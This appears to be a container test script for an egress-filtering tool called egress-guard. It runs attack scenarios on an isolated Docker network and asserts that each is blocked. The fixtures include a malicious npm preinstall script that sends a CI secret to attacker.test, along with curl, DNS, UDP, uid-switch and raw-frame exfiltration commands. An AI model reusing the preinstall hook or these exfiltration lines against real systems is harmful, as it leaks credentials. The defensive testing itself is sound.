#!/usr/bin/env bash
# Container test: a real Docker engine, the egress-guard image, and a compose topology on an internal network
# (nothing leaves the machine) in which a `runner` sharing egress-guard's network namespace runs attack scenarios.
#
#   test/container/run.sh          build everything, run, assert, clean up; exit 1 on any failure
#
# Cleanup happens pass or fail: compose down -v, the images built here, and the dockerd that
# scripts/docker-base-image.sh started (unless a daemon was already running before this script).
set -uo pipefail

ROOT=$(cd "$(dirname "${BASH_SOURCE[0]}")/../.." && pwd)
BASE="$ROOT/scripts/docker-base-image.sh"
DOCKER=${DOCKER:-/usr/bin/docker}
TAG="ct$$"
PROJECT="egcontainer$$"
export EGRESS_IMAGE="egress-guard:$TAG" BUILD_IMAGE="egress-guard-build:$TAG" TESTBED_IMAGE="egress-guard-testbed:$TAG"
export NODE_IMAGE=${NODE_IMAGE:-local/node:20-bookworm-slim}
export COLLECTOR_TOKEN="ct-token-$RANDOM$RANDOM"
WORK=$(mktemp -d /tmp/egress-container.XXXXXX)
export FIXTURE_DIR="$WORK/fixture" RECORDS_DIR="$WORK/records"
mkdir -p "$FIXTURE_DIR" "$RECORDS_DIR"
chmod 0755 "$WORK" "$FIXTURE_DIR"
eval "$("$BASE" env)"  # DOCKER_HOST of the private dockerd (unless DOCKER_HOST was set)
START=$(date +%s.%N)
T=$START
timing() { local n; n=$(date +%s.%N); printf '[timing] %-30s %6.1f s\n' "$1" "$(echo "$n - $T" | bc)"; T=$n; }
dc() { docker-compose -p "$PROJECT" -f "$ROOT/test/container/compose.yml" "$@"; }

PASSED=0 FAILED=0
FAILURES=()
STARTED_DOCKERD=0
CA_COPIED=0

cleanup() {
  set +e
  if [ "$FAILED" -gt 0 ] || [ "${EGRESS_CONTAINER_VERBOSE:-0}" = 1 ]; then
    echo "---- egress-guard container log (last 40 lines) ----"
    dc logs --no-color --tail 40 egress-guard 2>/dev/null
  fi
  dc down -v --remove-orphans --timeout 5 >/dev/null 2>&1
  if declare -F pod_cleanup >/dev/null; then pod_cleanup; fi
  $DOCKER rmi -f "$EGRESS_IMAGE" "$TESTBED_IMAGE" "$BUILD_IMAGE" >/dev/null 2>&1
  # Intermediate layers of the builds above (untagged, from this daemon only).
  $DOCKER image prune -f >/dev/null 2>&1
  [ "$CA_COPIED" = 0 ] || rm -f "$ROOT/docker/build-ca.pem"
  if [ "$STARTED_DOCKERD" = 1 ]; then "$BASE" stop; fi
  rm -rf "$WORK"
}
trap cleanup EXIT
trap 'exit 130' INT TERM

fatal() { echo "container: setup failed: $*" >&2; FAILED=$((FAILED + 1)); echo "container: $PASSED passed, $FAILED failed"; exit 1; }

# check NAME COMMAND...: one scenario; its failure fails the run.
check() {
  local name=$1
  shift
  if "$@"; then
    PASSED=$((PASSED + 1)); echo "PASS    $name"
    return 0
  fi
  FAILED=$((FAILED + 1)); FAILURES+=("$name"); echo "FAIL    $name"
}

runner() { dc exec -T runner bash -c "$1"; }
# never_seen FILE PATTERN: nothing in the internet/attacker records matches (fixed string).
never_seen() { ! grep -qF -- "$2" "$RECORDS_DIR/$1.ndjson" 2>/dev/null; }
seen() { grep -qF -- "$2" "$RECORDS_DIR/$1.ndjson" 2>/dev/null; }

# ---------------------------------------------------------------- engine, base image, images
if $DOCKER info >/dev/null 2>&1; then
  echo "using the running daemon at ${DOCKER_HOST:-default socket}; it stays running"
else
  STARTED_DOCKERD=1
  "$BASE" start || fatal "dockerd did not start"
fi
"$BASE" base || fatal "base image"
timing "engine + base image"

if [ -n "${NODE_EXTRA_CA_CERTS:-}" ] && [ -f "$NODE_EXTRA_CA_CERTS" ] && [ ! -e "$ROOT/docker/build-ca.pem" ]; then
  # npm needs the machine's CA bundle inside the build stage here; it never reaches the runtime stage.
  cp "$NODE_EXTRA_CA_CERTS" "$ROOT/docker/build-ca.pem"; CA_COPIED=1
fi
build() { # build TAG LOG ARGS...: the build stage reaches the npm/Debian registries over the host network
  local tag=$1 log=$2 attempt; shift 2
  for attempt in 1 2; do  # one retry: a registry hiccup should not fail the run
    $DOCKER build --network host --build-arg NODE_IMAGE="$NODE_IMAGE" --build-arg ALLOW_TYPE_ERRORS="${ALLOW_TYPE_ERRORS:-0}" \
      -t "$tag" "$@" >"$WORK/$log" 2>&1 && return 0
    echo "docker build of $tag failed (attempt $attempt)" >&2
  done
  tail -40 "$WORK/$log" >&2
  return 1
}
build "$EGRESS_IMAGE" build-runtime.log -f "$ROOT/docker/Dockerfile" "$ROOT" || fatal "docker build of the egress-guard image"
timing "egress-guard image"
build "$BUILD_IMAGE" build-stage.log --target build -f "$ROOT/docker/Dockerfile" "$ROOT" || fatal "build stage image"
build "$TESTBED_IMAGE" build-testbed.log --build-arg BUILD_IMAGE="$BUILD_IMAGE" -f "$ROOT/test/container/Dockerfile.testbed" "$ROOT/test/container" \
  || fatal "testbed image"
SIZE=$($DOCKER image inspect --format '{{.Size}}' "$EGRESS_IMAGE")
printf 'egress-guard image %s: %d MB (base %s: %d MB)\n' "$EGRESS_IMAGE" $((SIZE / 1000000)) "$NODE_IMAGE" \
  $(($($DOCKER image inspect --format '{{.Size}}' "$NODE_IMAGE") / 1000000))
timing "testbed image"

# ---------------------------------------------------------------- fixture
$DOCKER run --rm --network none -v "$FIXTURE_DIR:/fixture" "$BUILD_IMAGE" node /src/dist/test/container/prepare.js /fixture >/dev/null \
  || fatal "fixture (certificates, internet configuration)"
mkdir -p "$WORK/pkg/package" "$WORK/evil/package"
echo '{"name":"left-pad-lite","version":"1.0.0","main":"index.js"}' >"$WORK/pkg/package/package.json"
echo 'module.exports = (s, n) => String(s).padStart(n);' >"$WORK/pkg/package/index.js"
tar czf "$FIXTURE_DIR/pkg.tgz" -C "$WORK/pkg" package
# The classic malicious preinstall: node's https ignores HTTP(S)_PROXY and calls the attacker directly.
echo '{"name":"evil-helper","version":"6.6.6","scripts":{"preinstall":"node preinstall.js"}}' >"$WORK/evil/package/package.json"
cat >"$WORK/evil/package/preinstall.js" <<'EOF'
const https = require('https');
const req = https.get(`https://attacker.test/preinstall?token=${process.env.CI_SECRET || 'none'}`, { timeout: 5000 }, (res) => { res.resume(); console.log('exfiltrated', res.statusCode); });
req.on('error', (err) => console.log('preinstall call failed:', err.code || err.message));
req.on('timeout', () => { console.log('preinstall call timed out'); req.destroy(); });
EOF
tar czf "$FIXTURE_DIR/evil.tgz" -C "$WORK/evil" package
# A UDP datagram written as a whole Ethernet frame on an AF_PACKET socket (root with Docker's default CAP_NET_RAW),
# below every iptables rule (the script's header says how; exit 4: the frame guard dropped it at eth0's egress hook).
cp "$ROOT/test/helpers/raw-frame.py" "$FIXTURE_DIR/raw-frame.py"
chmod -R a+rX "$FIXTURE_DIR"

# ---------------------------------------------------------------- topology
export EGRESS_RULES=required
SERVICES=(internet attacker egress-guard runner collector)
dc up -d "${SERVICES[@]}" >"$WORK/compose-up.log" 2>&1 || { cat "$WORK/compose-up.log" >&2; dc logs --no-color --tail 30 >&2; fatal "compose up"; }
timing "compose up (healthy)"

# ---------------------------------------------------------------- scenarios
EG_CID=$(dc ps -q egress-guard)
SECRET="s3cr3t-$RANDOM$RANDOM"
R1="x$(head -c 24 /dev/urandom | od -An -tx1 | tr -d ' \n')"; R2="y${R1:1}"; R3="z${R1:1}"; R4="w${R1:1}"
CURL="curl -sS --max-time 8 --cacert /fixture/ca.pem"
PROXY="-x http://127.0.0.1:3128"
PROXY_ENV="HTTP_PROXY=http://127.0.0.1:3128 HTTPS_PROXY=http://127.0.0.1:3128 http_proxy=http://127.0.0.1:3128 https_proxy=http://127.0.0.1:3128"

# Controls: the recorders work (so "never seen" below means something). Sent from the internet container,
# which is not behind egress-guard.
s_control() {
  dc exec -T internet bash -c "curl -sS --max-time 5 --cacert /fixture/ca.pem --resolve attacker.test:443:203.0.113.66 https://attacker.test/control-$TAG >/dev/null && dig +short +tries=1 +time=2 @203.0.113.10 control-$TAG.attacker.test >/dev/null" \
    && sleep 0.5 && seen attacker "/control-$TAG" && seen internet "control-$TAG.attacker.test"
}
check "control: the attacker's web server and the .test DNS server record what reaches them" s_control

s_uid() { $DOCKER top "$EG_CID" -eo pid,uid,args | awk '/egress-guard.js run/ { print $2 }' | grep -qx 10101; }
check "egress-guard runs as uid 10101 (dropped from root)" s_uid

s_proxy_allowed() { [ "$(runner "$CURL $PROXY -o /dev/null -w '%{http_code}' https://allowed.test/via-proxy")" = 200 ] && seen internet '"url":"/via-proxy"'; }
check "explicit proxy: allowed.test reachable" s_proxy_allowed

s_proxy_exfil() { ! runner "$CURL $PROXY -d token=$SECRET https://attacker.test/upload-proxy" >/dev/null 2>&1 && never_seen attacker /upload-proxy && never_seen attacker "$SECRET"; }
check "explicit proxy: curl exfil to attacker.test blocked, body never arrives" s_proxy_exfil

s_proxy_raw_ip() { [ "$(runner "$CURL $PROXY -o /dev/null -w '%{http_code}' http://203.0.113.66/raw-proxy")" = 403 ] && never_seen attacker /raw-proxy; }
check "explicit proxy: raw IP http://203.0.113.66/ blocked (403)" s_proxy_raw_ip

s_npm_registry() { runner "mkdir -p /tmp/proj-ok && cd /tmp/proj-ok && $PROXY_ENV npm install --no-save --registry https://registry.test/ left-pad-lite >/tmp/npm-ok.log 2>&1 && test -f node_modules/left-pad-lite/index.js"; }
check "npm install from registry.test through egress-guard" s_npm_registry

s_npm_preinstall() { runner "mkdir -p /tmp/proj-evil && cd /tmp/proj-evil && CI_SECRET=$SECRET $PROXY_ENV npm install --no-save --foreground-scripts /fixture/evil.tgz >/tmp/npm-evil.log 2>&1"; never_seen attacker /preinstall && never_seen attacker "$SECRET"; }
check "npm preinstall (https.get ignores HTTPS_PROXY) never reaches attacker.test" s_npm_preinstall

s_direct_exfil() { runner "$CURL --noproxy '*' --resolve attacker.test:443:203.0.113.66 -d token=$SECRET https://attacker.test/upload-direct" >/dev/null 2>&1; never_seen attacker /upload-direct; }
check "curl exfil without the proxy (direct to attacker.test) blocked" s_direct_exfil

s_direct_raw_ip() { runner "curl -sk --max-time 8 --noproxy '*' https://203.0.113.66/raw-direct" >/dev/null 2>&1; never_seen attacker /raw-direct; }
check "raw IP https://203.0.113.66/ without the proxy blocked" s_direct_raw_ip

s_direct_allowed() { [ "$(runner "$CURL --noproxy '*' -o /dev/null -w '%{http_code}' https://allowed.test/transparent")" = 200 ] && seen internet '"url":"/transparent"'; }
check "allowed.test without the proxy works (transparent listener)" s_direct_allowed

s_dns_explicit() { runner "dig +tries=1 +time=3 @127.0.0.1 $R1.attacker.test" >/dev/null 2>&1; never_seen internet "$R1"; }
check "DNS exfil through egress-guard's DNS server never reaches the .test DNS server" s_dns_explicit

s_dns_default() { runner "dig +tries=1 +time=3 $R2.attacker.test" >/dev/null 2>&1; never_seen internet "$R2"; }
check "DNS exfil via the container's resolver (127.0.0.11) never reaches the .test DNS server" s_dns_default

s_dns_direct() { runner "dig +tries=1 +time=3 @203.0.113.10 $R3.attacker.test; dig +tcp +tries=1 +time=3 @203.0.113.10 $R4.attacker.test" >/dev/null 2>&1; never_seen internet "$R3" && never_seen internet "$R4"; }
check "DNS exfil straight to the .test DNS server (UDP and TCP) redirected" s_dns_direct

s_udp() { runner "echo udp-$SECRET > /dev/udp/203.0.113.66/4444" >/dev/null 2>&1; sleep 1; never_seen attacker "udp-$SECRET"; }
check "UDP to an arbitrary port (203.0.113.66:4444) dropped" s_udp

# Way out 4 (issue 10): the runner is root with CAP_SETUID and may take egress-guard's uid; the rules exempt that uid
# only on sockets with egress-guard's random mark, so the switched job is redirected (TCP) or refused (UDP) like any.
AS_EG="setpriv --reuid=10101 --regid=10101 --clear-groups"
s_uid_switch() {
  [ "$(runner "$AS_EG id -u")" = 10101 ] || return 1 # the switch itself works, so "nothing arrives" means something
  runner "$AS_EG curl -sk --max-time 8 --noproxy '*' https://203.0.113.66/uid-switch-$TAG" >/dev/null 2>&1
  runner "$AS_EG bash -c 'echo uid-switch-$SECRET > /dev/udp/203.0.113.66/4444'" >/dev/null 2>&1
  sleep 1
  never_seen attacker "/uid-switch-$TAG" && never_seen attacker "uid-switch-$SECRET"
}
check "a root job that takes egress-guard's uid (setpriv) reaches nothing: TCP and UDP" s_uid_switch

# A root job with Docker's default CAP_NET_RAW writes a datagram as an Ethernet frame (AF_PACKET): no iptables rule
# sees it; the frame guard that `rules apply` made with the image's nft drops it. Control: the same frame from the
# internet container (not behind egress-guard) reaches the attacker's recorder.
s_af_packet() {
  local why=$WORK/af-packet.why
  dc exec -T internet python3 /fixture/raw-frame.py 203.0.113.66 4444 "frame-control-$TAG" >"$why" 2>&1 || { cat "$why" >&2; return 1; }
  sleep 0.5
  seen attacker "frame-control-$TAG" || { echo "af_packet: the control frame did not arrive" >&2; return 1; }
  dc logs --no-color egress-guard >"$WORK/frame-guard.log" 2>/dev/null
  grep -c 'frames written on packet sockets (AF_PACKET) refused on' "$WORK/frame-guard.log" >"$WORK/frame-guard.count"
  [ "$(cat "$WORK/frame-guard.count")" -gt 0 ] || { grep 'frames written on packet sockets' "$WORK/frame-guard.log" >&2; echo "af_packet: no guard" >&2; return 1; }
  runner "python3 /fixture/raw-frame.py 203.0.113.66 4444 frame-$SECRET" >"$why" 2>&1
  local code=$?
  [ "$code" -eq 4 ] || { echo "af_packet: the runner's send exited $code" >&2; cat "$why" >&2; return 1; }
  sleep 1
  never_seen attacker "frame-$SECRET"
}
check "a root job with NET_RAW writes a UDP datagram as an Ethernet frame (AF_PACKET): the frame guard drops it" s_af_packet

# ulogd in the egress-guard container reads the rules' NFLOG reports; egress-guard makes them events.
# The logs go to a file, and every grep in a pipe reads to the end (-c, not -q): a reader that stops at its first
# match makes the writer die of SIGPIPE, which fails the check under pipefail once the logs outgrow a pipe buffer.
eg_logs() { dc logs --no-color egress-guard >"$WORK/egress-guard.log" 2>/dev/null; }
s_udp_event() { eg_logs && [ "$(grep '"kind":"udp"' "$WORK/egress-guard.log" | grep '"host":"203.0.113.66"' | grep -c '"port":4444')" -gt 0 ]; }
check "the refused UDP datagram is a decision event (kind udp, 203.0.113.66:4444)" s_udp_event

s_events() { eg_logs && [ "$(grep '"decision":"blocked"' "$WORK/egress-guard.log" | grep -c '"host":"attacker.test"')" -gt 0 ]; }
check "decision events: blocked attacker.test logged by egress-guard" s_events

s_collector() {
  local events
  events=$(dc exec -T collector node -e "fetch('http://127.0.0.1:8080/api/v1/jobs/container-test/events').then(r => r.text()).then(t => process.stdout.write(t), () => process.exit(1))" 2>/dev/null) || return 1
  grep -q '"attacker.test"' <<<"$events" && grep -q '"blocked"' <<<"$events" && grep -q '"allowed.test"' <<<"$events"
}
check "collector stored the job's decisions (allowed and blocked)" s_collector

s_stop() { local t0 t1; t0=$(date +%s); $DOCKER stop -t 10 "$EG_CID" >/dev/null || return 1; t1=$(date +%s); [ $((t1 - t0)) -lt 5 ]; }
check "SIGTERM: egress-guard stops in under 5 s" s_stop

# Audit mode never breaks a job: egress-guard again, in audit mode (the runner rejoins its new namespace); its node
# process is killed; the entrypoint removes the redirect rules and the job keeps its egress.
eg_rules() { $DOCKER exec "$(dc ps -q egress-guard)" iptables-save | grep -c EGRESS_GUARD; }
s_audit_crash() {
  EGRESS_MODE=audit dc up -d --force-recreate egress-guard runner >>"$WORK/compose-up.log" 2>&1 || return 1
  [ "$(runner "$CURL --noproxy '*' -o /dev/null -w '%{http_code}' https://attacker.test/audit-before-$TAG")" = 200 ] || return 1
  sleep 0.5; seen attacker "/audit-before-$TAG" && [ "$(eg_rules)" -gt 0 ] || return 1
  # The image has no procps: find egress-guard's processes (uid 10101) through /proc.
  $DOCKER exec "$(dc ps -q egress-guard)" sh -c 'for d in /proc/[0-9]*; do [ "$(stat -c %u "$d")" = 10101 ] && kill -KILL "${d#/proc/}"; done; true' || return 1
  local i
  for i in $(seq 1 40); do [ "$(eg_rules)" -gt 0 ] || break; sleep 0.25; done
  [ "$(eg_rules)" -eq 0 ] && [ "$(runner "$CURL --noproxy '*' -o /dev/null -w '%{http_code}' https://allowed.test/audit-after-$TAG")" = 200 ]
}
check "audit mode: egress-guard killed, the entrypoint removes the rules, the job keeps its egress" s_audit_crash

timing "scenarios"

# The Kubernetes runner pod (deploy/kubernetes/), run with podman kube play: test/container/pod.sh.
# shellcheck source=test/container/pod.sh
source "$ROOT/test/container/pod.sh"
printf '[timing] %-30s %6.1f s\n' "container stage total" "$(echo "$(date +%s.%N) - $START" | bc)"
[ ${#FAILURES[@]} -eq 0 ] || printf 'failed: %s\n' "${FAILURES[@]}"
echo "container: $PASSED passed, $FAILED failed"
[ "$FAILED" -eq 0 ]
